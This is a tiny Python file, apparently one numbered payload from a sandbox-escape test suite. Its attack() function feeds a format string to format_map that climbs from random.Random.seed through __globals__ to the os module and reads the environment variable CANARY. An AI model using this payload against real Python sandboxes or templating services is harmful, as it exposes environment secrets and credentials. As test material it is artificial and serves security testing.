"""P1: as a format string, by format_map."""


def attack(door):
    door.run("import random")
    door.value("'{r.Random.seed.__globals__[_os].environ[CANARY]}'.format_map({'r': random})")
